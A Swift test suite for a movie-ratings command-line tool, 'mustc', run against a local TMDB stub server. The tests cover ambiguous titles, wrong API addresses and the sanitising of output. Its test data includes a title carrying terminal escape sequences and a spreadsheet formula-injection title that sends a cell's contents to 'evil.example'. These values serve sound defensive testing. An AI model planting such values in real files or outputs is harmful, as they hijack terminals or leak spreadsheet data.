import Foundation
import TMDBStub
import Testing

/// What real TMDB answers and public edits showed, through mustc's commands and the loopback stub.
@Suite struct RealAnswersTests {
    let stub: TMDBStubServer
    let mustc: MustcBinary

    /// A title a stranger could type into TMDB: an OSC that retitles the terminal (ESC ] 0; … BEL), a screen
    /// clear (ESC [2J), a C1 control (NEL, U+0085) and a right-to-left override (U+202E).
    static let hostile = "Evil\u{1B}]0;pwned\u{07}\u{1B}[2J\u{85}Film\u{202E}drow"
    static let formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"

    static let movies: [StubMovie] = [
        // Three obscure films with one title, all at TMDB's popularity floor.
        StubMovie(id: 501, title: "Strange", popularity: 0.6, voteAverage: 0, voteCount: 0, releaseDate: "1999-01-01"),
        StubMovie(id: 502, title: "Strange", popularity: 0.6, voteAverage: 5, voteCount: 1, releaseDate: "2007-05-05"),
        StubMovie(id: 503, title: "Strange", popularity: 0.6, voteAverage: 10, voteCount: 1, releaseDate: ""),
        StubMovie(id: 550, title: "Fight Club", popularity: 61.4, voteAverage: 8.4, voteCount: 30_000),
        StubMovie(
            id: 238, title: "The Godfather", popularity: 120.5, voteAverage: 8.7, voteCount: 21_000,
            releaseDate: "1972-03-14"),
        StubMovie(id: 666, title: hostile, popularity: 3, voteAverage: 6, voteCount: 10, releaseDate: "2020-02-02"),
        StubMovie(id: 667, title: formula, popularity: 2, voteAverage: 5, voteCount: 5, releaseDate: "2021-01-01"),
        StubMovie(id: 668, title: "+1", popularity: 2, voteAverage: 5, voteCount: 5, releaseDate: "2022-01-01"),
    ]

    init() throws {
        stub = TMDBStubServer(movies: Self.movies)
        try stub.start()
        mustc = MustcBinary(stub: stub)
    }

    /// Ann's movies in `ratings --format json`.
    func annsMovies(_ binary: MustcBinary? = nil) async throws -> [[String: Any]] {
        let report = try await (binary ?? mustc)("ratings", "--format", "json")
        #expect(report.status == 0, "\(report.all)")
        let members = try #require(try report.json()["members"] as? [[String: Any]])
        let ann = try #require(members.first { $0["name"] as? String == "Ann" })
        return try #require(ann["movies"] as? [[String: Any]])
    }

    @Test func equallyPopularExactTitlesAreAChoiceListingEachWithYearAndId() async throws {
        defer { stub.stop() }
        let added = try await mustc("add", "Ann", "Strange")
        #expect(added.status == 0, "\(added.all)")
        #expect(!added.stdout.contains("most popular"), "\(added.stdout)")
        #expect(added.stdout.contains("3 TMDB movies are titled exactly \"Strange\""), "\(added.stdout)")
        for (id, shown) in [(501, "Strange (1999)"), (502, "Strange (2007)"), (503, "Strange, tmdb:503")] {
            #expect(added.stdout.contains("tmdb:\(id)    # \(shown)"), "\(id): \(added.stdout)")
        }
        let movies = try await annsMovies()
        #expect(movies.count == 1 && movies[0]["remoteId"] is NSNull, "\(movies)")
        let status = try await mustc("status", "--json")
        let waiting = try #require(try status.json()["needsChoice"] as? [[String: Any]])
        let candidates = try #require(waiting.first?["candidates"] as? [[String: Any]])
        #expect(Set(candidates.compactMap { $0["remoteId"] as? Int }) == [501, 502, 503])
    }

    @Test func anAddressThatIsNotTMDBsIsSaidSoAndAFetchFailsKeepingSchedules() async throws {
        defer { stub.stop() }
        #expect(try await mustc("add", "Ann", "tmdb:550").status == 0)
        let before = try await mustc("movies", "--format", "json").jsonArray()
        var wrong = mustc
        // The API's root without "/3": TMDB's web server answers HTML 404 pages there.
        wrong.environment["MUSTC_TMDB_BASE_URL"] = "http://127.0.0.1:\(stub.port)"

        let added = try await wrong("add", "Ann", "Fight Club (1999)")
        #expect(added.status == 0, "\(added.all)")
        #expect(added.stderr.contains("TMDB's address looks wrong"), "\(added.all)")
        #expect(added.stderr.contains("tmdb.baseURL") && added.stderr.contains("MUSTC_TMDB_BASE_URL"))
        #expect(!added.all.contains("has no movie") && !added.all.contains(stub.apiKey), "\(added.all)")
        let kept = try await annsMovies()
        #expect(kept.contains { $0["title"] as? String == "Fight Club" && $0["remoteId"] is NSNull }, "\(kept)")

        let fetched = try await wrong("fetch", "--force", "--json")
        #expect(fetched.status == 75, "\(fetched.all)")
        #expect(try fetched.json()["result"] as? String == "failed", "\(fetched.stdout)")
        #expect(!fetched.all.contains(stub.apiKey))
        let after = try await mustc("movies", "--format", "json").jsonArray()
        let linked = { (list: [[String: Any]]) in list.first { $0["remoteId"] as? Int == 550 } }
        #expect(linked(after)?["nextCheckAt"] as? String == linked(before)?["nextCheckAt"] as? String)
        #expect(linked(after)?["lastCheckedAt"] as? String == linked(before)?["lastCheckedAt"] as? String)
    }

    @Test func anImportAgainstAWrongAddressKeepsEveryRowAndSaysSoOnce() async throws {
        defer { stub.stop() }
        var wrong = mustc
        wrong.environment["MUSTC_TMDB_BASE_URL"] = "http://127.0.0.1:\(stub.port)/api"
        let list = mustc.home.file("list.csv")
        let others = (1...12).map { "Film \($0),2001\n" }.joined()
        try ("title,year\nFight Club,1999\nThe Godfather,1972\nStrange,\n" + others).write(
            toFile: list, atomically: true, encoding: .utf8)
        let imported = try await wrong("import", "Ann", list, "--json")
        #expect(imported.status == 0, "\(imported.all)")
        #expect(imported.stderr.components(separatedBy: "TMDB's address looks wrong").count == 2, "\(imported.stderr)")
        #expect(!imported.all.contains(stub.apiKey) && !imported.all.contains("not found"))
        let summary = try imported.json()
        #expect(summary["linked"] as? Int == 15 && summary["notFound"] as? Int == 0, "\(summary)")
        // The 4 concurrent lookups may each have asked before the first answer came; no row asks after it.
        #expect(stub.requests.count <= 4, "\(stub.requests.count) requests for 15 rows")
        let titles = Set(try await annsMovies().compactMap { $0["title"] as? String })
        #expect(titles.isSuperset(of: ["Fight Club", "The Godfather", "Strange"]) && titles.count == 15)
    }

    @Test func tmdbsOwnWordsAreShownWithTheStatus() async throws {
        defer { stub.stop() }
        stub.inject(.unprocessable, on: .search)
        let added = try await mustc("add", "Ann", "Fight Club")
        #expect(added.stderr.contains("422: query must be provided"), "\(added.all)")
    }

    @Test func aSmallMoveInAFigurePrintsAsAMove() async throws {
        defer { stub.stop() }
        #expect(try await mustc("add", "Ann", "tmdb:550").status == 0)
        stub.update(id: 550) { $0.voteAverage = 8.437 }
        let fetched = try await mustc("fetch", "--force")
        #expect(fetched.status == 0, "\(fetched.all)")
        let changes = try await mustc("changes")
        #expect(changes.stdout.contains("8.4 → 8.437 (+0.037)"), "\(changes.stdout)")
        let ratings = try await mustc("ratings")
        #expect(ratings.stdout.contains("8.437 (+0.037)"), "\(ratings.stdout)")
    }

    @Test func aLinkedMovieShowsTMDBsTitleAndTheTypedSpellingStillNamesIt() async throws {
        defer { stub.stop() }
        #expect(try await mustc("add", "Ann", "godfather", "--no-lookup").status == 0)
        let resolved = try await mustc("resolve", "Ann", "godfather", "tmdb:238")
        #expect(resolved.status == 0, "\(resolved.all)")
        let movies = try await annsMovies()
        #expect(movies.first?["title"] as? String == "The Godfather" && movies.first?["year"] as? Int == 1972)
        #expect(try await mustc("ratings").stdout.contains("The Godfather (1972)"))
        #expect(try await mustc("movies").stdout.contains("The Godfather (1972)"))
        #expect(stub.requests.allSatisfy { $0.query["language"] == "en-US" }, "language is always sent")
        let removed = try await mustc("remove", "Ann", "godfather")
        #expect(removed.status == 0, "\(removed.all)")
        #expect(try await annsMovies().isEmpty)
    }

    @Test func controlCharactersInATitleNeverReachTheTerminal() async throws {
        defer { stub.stop() }
        var outputs: [(String, Outcome)] = []
        outputs.append(("add", try await mustc("add", "Ann", "tmdb:666")))
        stub.update(id: 666) { $0.voteCount += 5 }
        outputs.append(("fetch", try await mustc("fetch", "--force", "--verbose")))
        for command in [["ratings"], ["movies"], ["status"], ["changes"], ["members"], ["ratings", "--trend", "7d"]] {
            outputs.append((command.joined(separator: " "), try await mustc.run(command)))
        }
        stub.update(id: 666) { $0.title = "Evil" }
        outputs.append(("add candidates", try await mustc("add", "Bob", "Evil\u{1B}[2JFilm")))
        let forbidden: [Unicode.Scalar] = ["\u{1B}", "\u{07}", "\u{85}", "\u{202E}"]
        for (name, outcome) in outputs {
            let bad = outcome.all.unicodeScalars.filter { forbidden.contains($0) }
            #expect(bad.isEmpty, "\(name) printed \(bad.map { String($0.value, radix: 16) })")
        }
        #expect(outputs[0].1.stdout.contains("Evil\\u001B]0;pwned\\u0007\\u001B[2J\\u0085Film\\u202Edrow"))
        // JSON keeps the exact text.
        #expect(try await annsMovies().first?["title"] as? String == Self.hostile)
    }

    @Test func aFormulaTitleExportsGuardedAndImportsBackExactly() async throws {
        defer { stub.stop() }
        #expect(try await mustc("add", "Ann", "tmdb:667", "tmdb:668").status == 0)
        let export = try await mustc("export")
        #expect(export.status == 0, "\(export.all)")
        #expect(
            export.stdout.contains("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"click\"\")\""), "\(export.stdout)"
        )
        #expect(export.stdout.contains(",'+1,"), "\(export.stdout)")
        #expect(!export.stdout.contains(",=HYPERLINK") && !export.stdout.contains(",+1,"))
        let ratingsCSV = try await mustc("ratings", "--format", "csv")
        #expect(ratingsCSV.stdout.contains("'=HYPERLINK") && ratingsCSV.stdout.contains(",'+1,"))

        let file = mustc.home.file("export.csv")
        try export.stdout.write(toFile: file, atomically: true, encoding: .utf8)
        let fresh = MustcBinary(stub: stub)
        let imported = try await fresh("import", "Ann", file)
        #expect(imported.status == 0, "\(imported.all)")
        let titles = Set(try await annsMovies(fresh).compactMap { $0["title"] as? String })
        #expect(titles == [Self.formula, "+1"], "\(titles)")
    }

    @Test func smallThings() async throws {
        defer { stub.stop() }
        let one = try await mustc("add", "Ann", "tmdb:503")
        #expect(one.stdout.contains("rated 10 from 1 vote,"), "\(one.stdout)")
        stub.upsert(StubMovie(id: 700, title: "\"Civil War Minutes-Confederate\"", releaseDate: ""))
        let quotedTitle = try await mustc("add", "Ann", "\"Civil War Minutes-Confederate\"")
        #expect(quotedTitle.stdout.contains("Ann now has \"Civil War Minutes-Confederate\"."), "\(quotedTitle.stdout)")
        let blank = try await mustc("add", "Ann", "   ")
        #expect(blank.status == 64 && !blank.stderr.contains("got \"\""), "\(blank.all)")
    }
}
